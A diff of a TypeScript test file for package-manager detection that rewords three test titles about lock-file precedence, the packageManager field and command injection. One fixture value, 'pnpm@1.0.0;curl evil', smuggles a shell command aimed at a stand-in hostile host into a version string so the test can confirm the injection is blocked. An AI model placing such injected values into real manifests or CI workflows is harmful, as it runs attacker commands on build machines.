@@ -24,7 +24,7 @@ test.each([
   expect(found({}, { npm_config_user_agent: agent })).toEqual([kind, version, false]);
 });
 
-test("a lock file counts more than the program that runs", () => {
+test("a lock file takes precedence over the running package manager", () => {
   expect(found({ "pnpm-lock.yaml": "" }, NPX)).toEqual(["pnpm", null, false]);
   expect(found({ "yarn.lock": "" }, NPX)).toEqual(["yarn", null, false]);
   expect(found({ "yarn.lock": "", ".yarnrc.yml": "" }, NPX)).toEqual(["yarn-berry", null, false]);
@@ -42,7 +42,7 @@ test("a lock file counts more than the program that runs", () => {
   ]);
 });
 
-test("`packageManager` in package.json counts most; one that can't be read counts as none", () => {
+test("`packageManager` in package.json takes precedence; an invalid value is ignored", () => {
   const manifest = (value: unknown) => ({ "package.json": JSON.stringify({ packageManager: value }) });
   expect(found({ ...manifest("pnpm@12.21.0+sha512.ab12"), "yarn.lock": "" }, NPX)).toEqual([
     "pnpm",
@@ -55,7 +55,7 @@ test("`packageManager` in package.json counts most; one that can't be read count
   expect(found({ "package.json": "{" })).toEqual(["npm", null, false]);
 });
 
-test("a version can't bring a command of its own into a workflow", () => {
+test("a version can't inject a command into a workflow", () => {
   const manifest = JSON.stringify({ packageManager: "pnpm@1.0.0;curl evil" });
   const folder = tempFolder("manager");
   writeFileSync(path.join(folder, "package.json"), manifest);
